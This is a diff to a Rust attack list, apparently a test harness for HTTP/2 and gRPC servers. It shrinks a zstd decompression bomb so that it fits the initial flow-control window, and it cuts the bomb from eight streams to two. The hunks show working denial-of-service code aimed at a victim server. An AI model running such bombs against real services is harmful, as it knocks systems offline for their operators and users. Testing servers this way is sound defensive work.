@@ -30,7 +30,7 @@ pub const ATTACKS: &[Attack] = &[
     Attack { name: "h2: answers that have a window of one byte", run: small_window },
     Attack { name: "gRPC: a message that says it is gigabytes", run: grpc_length },
     Attack { name: "gRPC: messages that drip", run: grpc_drip },
-    Attack { name: "gRPC: a gigabyte in kilobytes", run: grpc_bomb },
+    Attack { name: "gRPC: megabytes in kilobytes", run: grpc_bomb },
 ];
 
 const DATA: u8 = 0;
@@ -444,7 +444,9 @@ fn grpc_drip(victim: &Victim) -> Vec<TcpStream> {
 }
 
 fn grpc_bomb(victim: &Victim) -> Vec<TcpStream> {
-    let bomb = zstd::encode_all(&vec![0; 16 << 20][..], 19).unwrap().repeat(64);
+    let bomb = zstd::encode_all(&vec![0; 16 << 20][..], 19).unwrap().repeat(8);
+    // All of it is within the window that a connection has at its start.
+    assert!(bomb.len() < 30_000, "{}", bomb.len());
     let mut message = vec![1];
     message.extend_from_slice(&u32::try_from(bomb.len()).unwrap().to_be_bytes());
     message.extend_from_slice(&bomb);
@@ -452,8 +454,7 @@ fn grpc_bomb(victim: &Victim) -> Vec<TcpStream> {
         let mut connection = Connection::open(victim);
         let path = format!("/punctual.v1.MessageService/{path}");
         let coding = [GRPC, &[("grpc-encoding", "zstd")]].concat();
-        for number in 0..8 {
-            let stream = number * 2 + 1;
+        for stream in [1, 3] {
             connection.send(HEADERS, END_HEADERS, stream, &head("POST", &path, &coding));
             for piece in message.chunks(16_000) {
                 connection.send(DATA, 0, stream, piece);
